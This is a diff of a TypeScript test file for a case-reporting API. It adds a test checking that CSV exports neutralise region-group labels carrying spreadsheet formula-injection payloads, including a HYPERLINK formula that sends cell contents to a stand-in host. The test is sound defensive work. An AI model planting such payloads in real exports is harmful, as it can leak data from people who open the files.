@@ -70,27 +70,27 @@ describe('reports', () => {
   });
 
   it('counts only published cases: a draft never, a published case once, a withdrawn case no more', async () => {
-    const body = caseBody({ country: 'MN', narrative: undefined, incidents: [{ ...caseBody().incidents[0], country: 'MN' }] });
+    const body = caseBody({ country: 'ME', narrative: undefined, incidents: [{ ...caseBody().incidents[0], country: 'ME' }] });
     await http(`${api.url}/api/v1/cases`, { body, token: interviewer.accessToken });
-    const draft = await request(researcher, { countries: ['MN'], k: 5 });
+    const draft = await request(researcher, { countries: ['ME'], k: 5 });
     expect(draft.result.total.respondents).toBe(0);
 
     await http(`${api.url}/api/v1/cases/${body.id}/submit`, { method: 'POST', token: interviewer.accessToken });
     await eventually(async () => (await http(`${api.url}/api/v1/cases/${body.id}`, { token: admin.accessToken })).body.status === 'in_review');
     expect((await http(`${api.url}/api/v1/cases/${body.id}/redaction/approve`, { method: 'POST', token: admin.accessToken })).status).toBe(200);
-    const published = await request(researcher, { countries: ['MN'], k: 5 });
+    const published = await request(researcher, { countries: ['ME'], k: 5 });
     expect(published.reused).toBe(false);
     // One respondent: suppressed, shown as suppressed, never as a number or percentage.
     expect(published.result.total).toEqual({ respondents: null, incidents: null, pctRespondents: null, suppressed: true });
-    const [{ n }] = await db.query(`SELECT count(DISTINCT case_id)::int AS n FROM report_facts WHERE country = 'MN'`);
+    const [{ n }] = await db.query(`SELECT count(DISTINCT case_id)::int AS n FROM report_facts WHERE country = 'ME'`);
     expect(n).toBe(1);
 
     await http(`${api.url}/api/v1/cases/${body.id}/withdraw`, { method: 'POST', body: {}, token: interviewer.accessToken });
-    const afterWithdrawal = await request(researcher, { countries: ['MN'], k: 5 });
+    const afterWithdrawal = await request(researcher, { countries: ['ME'], k: 5 });
     expect(afterWithdrawal.result.total.respondents).toBe(0);
     // Nothing found is still shown: the requested country and every category, with 0, never suppressed.
     const result: ReportResult = afterWithdrawal.result;
-    expect(result.breakdowns.country.rows).toEqual([expect.objectContaining({ key: 'MN', respondents: 0, suppressed: false })]);
+    expect(result.breakdowns.country.rows).toEqual([expect.objectContaining({ key: 'ME', respondents: 0, suppressed: false })]);
     expect(result.crossTab.rows.map((r) => r.key)).toEqual(expect.arrayContaining(['police', 'client']));
     expect(result.crossTab.cells.flat().every((c) => c.respondents === 0 && !c.suppressed)).toBe(true);
     expect(result.breakdowns.gender.rows.map((r) => r.key)).toEqual(expect.arrayContaining(['female', 'male', 'trans_woman']));
@@ -259,6 +259,29 @@ describe('reports', () => {
     expect(n).toBeGreaterThanOrEqual(2);
   });
 
+  it('writes a hostile region-group label inert into every line of the CSV, description block included', async () => {
+    const hostile = 'North,=HYPERLINK("http://x/?q="&A2),-2+3';
+    const put = await http(`${api.url}/api/v1/region-groups/kz_hostile`, {
+      method: 'PUT',
+      body: { country: 'KZ', labelEn: hostile, labelRu: 'Юг;=1+1;"@SUM(A1)"', members: ['KZ-75', 'KZ-35'] },
+      token: admin.accessToken,
+    });
+    expect(put.status).toBe(200);
+    for (const [lang, label] of [['en', hostile], ['ru', 'Юг;=1+1;"@SUM(A1)"']] as const) {
+      const report = await request(researcher, { k: 5, lang, regionGroups: ['kz_hostile'], compareBy: 'region_group' });
+      const csv = await (await fetch(`${api.url}/api/v1/reports/${report.id}/download?format=csv`, { headers: { authorization: `Bearer ${researcher.accessToken}` } })).text();
+      // Read as a spreadsheet that ignores quoting would: every line split at commas and semicolons.
+      const cells = csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(/[,;]/)).map((cell) => cell.replace(/^[ "]+/, ''));
+      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+      // The label is there, in the filters line and in the comparison's rows, made inert.
+      const inert = lang === 'en' ? `North,'=HYPERLINK("http://x/?q="&A2),'-2+3` : `Юг;'=1+1;"'@SUM(A1)"`;
+      const quoted = `"${inert.replace(/"/g, '""')}"`;
+      expect([label, csv.split('\n').some((l) => l.startsWith('# ') && l.endsWith(`: ${quoted}`))]).toEqual([label, true]);
+      const rows: string[][] = parse(csv, { comment: '#', comment_no_infix: true });
+      expect([label, rows.some((r) => r[0] === 'compare_region_group_total' && r[2] === inert)]).toEqual([label, true]);
+    }
+  });
+
   it('exports CSV, XLSX and SVG that parse, with headers and labels', async () => {
     const report = await request(researcher, { k: 5, lang: 'ru', countries: ['KZ', 'KG'] });
     const download = (format: string) => fetch(`${api.url}/api/v1/reports/${report.id}/download?format=${format}`, { headers: { authorization: `Bearer ${researcher.accessToken}` } });
@@ -266,9 +289,10 @@ describe('reports', () => {
     const csv = await (await download('csv')).text();
     // A header block says what the figures are, in the report's language; readers skip it as comments.
     const block = csv.split('\n').filter((l) => l.startsWith('# '));
-    expect(block.join('\n')).toContain('Страны: Киргизия, Казахстан');
+    // Each value is a CSV cell, quoted and neutralised like the data.
+    expect(block.join('\n')).toContain('Страны: "Киргизия, Казахстан"');
     expect(block.join('\n')).toMatch(/период: все задокументированные случаи/);
-    expect(block.join('\n')).toMatch(/правила раскрытия: Значения меньше 5 скрыты; каждое значение искажено не более чем на ±4/);
+    expect(block.join('\n')).toMatch(/правила раскрытия: "Значения меньше 5 скрыты; каждое значение искажено не более чем на ±4/);
     expect(block.join('\n')).toMatch(/данные извлечены: \d{4}-\d\d-\d\dT/);
     expect(block.join('\n')).toMatch(/версия Casebook: \d+\.\d+\.\d+/);
     const rows: string[][] = parse(csv, { comment: '#', comment_no_infix: true });
